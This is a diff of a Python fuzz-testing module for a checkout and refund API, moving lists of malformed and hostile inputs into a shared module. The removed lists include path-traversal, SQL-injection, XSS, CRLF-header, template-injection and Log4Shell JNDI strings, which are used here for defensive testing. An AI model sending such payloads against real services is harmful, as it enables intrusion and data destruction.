@@ -9,10 +9,20 @@ from typing import Any
 
 from api.app import DECLARED
 from api.routes import Open, Route
-from ferryman.digital_river.events import KNOWN_TYPES
 from ferryman.digital_river.signature import HEADER
 from tests.hostile.system import KEYS, signed
 from tests.hostile.wire import request
+from tests.hostile.words import (
+    EVENTS,
+    MEDIA,
+    METHODS,
+    NUMBERS,
+    RAW,
+    SIGNATURES,
+    TARGETS,
+    TEMPLATES,
+    TEXTS,
+)
 
 _PLACE = re.compile(r"\{(\w+)\}")
 _RAW = "\x00raw\x00"
@@ -20,141 +30,6 @@ _RAW = "\x00raw\x00"
 
 ROUTES = [route for route in DECLARED if not route.endless]
 """A stream goes on for as long as one listens: it has tests of its own."""
-
-TEXTS: Sequence[str] = (
-    "",
-    " ",
-    "\x00",
-    "a\x00b",
-    "\r\nX-Injected: 1",
-    "\u202egnp.exe",
-    "\ud800",
-    "😀" * 50,
-    "é" * 300,
-    "x" * 5_000,
-    "../../../../etc/passwd",
-    "..",
-    "%2e%2e%2f",
-    "' OR '1'='1",
-    "'; DROP TABLE purchases; --",
-    "<script>alert(1)</script>",
-    "{{7*7}}",
-    "${jndi:ldap://192.0.2.1/a}",
-    "null",
-    "true",
-    "NaN",
-    "-0",
-    "1e999",
-    "0x10",
-    "\uff11\uff12",
-    "\u0415UR",
-    "EUR\n",
-    "4111111111111111",
-    "\ufeff",
-    "javascript:alert(1)",
-    "file:///etc/passwd",
-    "a/b~c",
-    "__proto__",
-    "urn:ferryman:problem:internal",
-)
-NUMBERS: Sequence[str] = (
-    "0",
-    "-0",
-    "-1",
-    "0.1",
-    "1e0",
-    "1E+2",
-    "1e999",
-    "-1e-999",
-    "9" * 20,
-    "9" * 5_000,
-    "0." + "0" * 5_000 + "1",
-    "1e" + "9" * 30,
-    "2147483648",
-    "9223372036854775808",
-    "99999999999999.99",
-    "9.999",
-    "NaN",
-    "Infinity",
-    "-Infinity",
-    "01",
-    "+1",
-    ".5",
-    "1_000",
-)
-RAW: Sequence[str] = (
-    "[" * 500 + "]" * 500,
-    '{"a":' * 500 + "1" + "}" * 500,
-    "[]",
-    "{}",
-    "null",
-    "true",
-    '{"a": 1, "a": 2}',
-    '"\\ud800"',
-    '"\\udc00\\ud800"',
-    '"\x01"',
-    "'single'",
-    "undefined",
-    "[1,]",
-    "/* no */ 1",
-    "",
-)
-KINDS = ("order.", "checkout.", "refund.", "return.", "checkout_session.")
-EVENTS: Sequence[str] = (*sorted(KNOWN_TYPES), "sku.created", "x" * 100, "order.", ".", "payout.é")
-MEDIA: Sequence[str] = (
-    "application/json",
-    "application/json; charset=utf-8",
-    "application/json; charset=utf-16",
-    "application/json; charset=nothing",
-    "application/json;charset",
-    "text/plain",
-    "application/xml",
-    "multipart/form-data; boundary=x",
-    "application/x-www-form-urlencoded",
-    "*/*",
-    "json",
-    "",
-    "application/problem+json",
-    "a/b" * 500,
-)
-TARGETS: Sequence[str] = (
-    "%00",
-    "%ff%fe",
-    "..%2f..",
-    "a%2fb",
-    "{id}",
-    "x" * 65,
-    "x" * 3_000,
-    "%F0%9F%98%80",
-    "-",
-    "0",
-    ".",
-    "a;b",
-    "a?b",
-    "a#b",
-    "%",
-    "%0d%0a",
-    "null",
-    "__proto__",
-    "4111111111111111",
-)
-METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "LINK")
-SIGNATURES: Sequence[str] = (
-    "",
-    ",",
-    "1",
-    "1,",
-    ",,,,,,,",
-    "NaN, x",
-    "-1, " + "A" * 43 + "=",
-    "9" * 400 + ", " + "A" * 43 + "=",
-    "1970-01-01T00:00:00Z, " + "A" * 43 + "=",
-    "9999-12-31T23:59:59Z, " + "A" * 43 + "=",
-    "0000-00-00T00:00:00Z, " + "A" * 43 + "=",
-    "t=1,v1=abc",
-    "é, ü",
-    "x" * 5_000,
-)
 
 
 class Requests:
@@ -226,7 +101,7 @@ class Requests:
     def _body(self, route: Route) -> bytes | None:
         if route.takes is None:
             return self._spoilt("{}") if self._often(0.1) else None
-        document = _TEMPLATES.get(route.takes.__name__, {})
+        document = TEMPLATES.get(route.takes.__name__, {})
         text = _written(self._changed(document))
         return self._spoilt(text) if self._often(0.3) else text.encode("utf-8", "surrogatepass")
 
@@ -315,40 +190,3 @@ def _written(document: Any) -> str:
     marked = json.dumps(_RAW)[1:-1]
     pattern = re.compile(f'"{re.escape(marked)}((?:[^"\\\\]|\\\\.)*)"')
     return pattern.sub(lambda found: str(json.loads(f'"{found[1]}"')), text)
-
-
-_PERSON = {"name": "Erika Beispiel", "address": {"line1": "Neuer Wall 10", "country": "DE"}}
-_TEMPLATES: Mapping[str, Any] = {
-    "PurchaseRequest": {
-        "currency": "EUR",
-        "taxInclusive": True,
-        "email": "erika@example.com",
-        "browserIp": "192.0.2.7",
-        "customer": {"id": "erika", "email": "erika@example.com"},
-        "items": [
-            {"lineId": "1", "skuId": "font-download", "quantity": 2, "price": 9.99},
-            {
-                "lineId": "2",
-                "productDetails": {"id": "p", "skuGroupId": "g", "name": "n", "weight": 1.5},
-                "quantity": 1,
-                "aggregatePrice": 5,
-                "metadata": {"a": "b", "c": 1},
-            },
-        ],
-        "shipTo": _PERSON,
-        "billTo": _PERSON,
-        "shippingChoice": {"amount": 4.9, "description": "standard"},
-        "discount": {"percentOff": 10},
-        "taxIdentifiers": [{"type": "de", "value": "DE123456789"}],
-        "metadata": {"a": True},
-    },
-    "Change": {"email": "erika@example.com", "shipTo": _PERSON, "metadata": {"a": "b"}},
-    "SourceChoice": {"sourceId": "source-1", "saveForFuture": False},
-    "Submission": {"termsAccepted": True, "sourceId": "source-1"},
-    "Shipment": {"shipmentId": "s1", "items": [{"lineId": "1", "quantity": 1}]},
-    "Cancellation": {"items": [{"lineId": "1", "quantity": 1}], "by": "merchant", "reason": "x"},
-    "RefundRequest": {"refundId": "r1", "amount": 1.5, "reason": "x"},
-    "ReturnRequest": {"returnId": "b1", "items": [{"lineId": "1", "quantity": 1}], "reason": "x"},
-    "Acceptance": {"items": [{"lineId": "1", "quantity": 1}]},
-    "OperatorsAct": {"action": "extendDeadline", "reason": "x", "until": "2100-01-01T00:00:00Z"},
-}
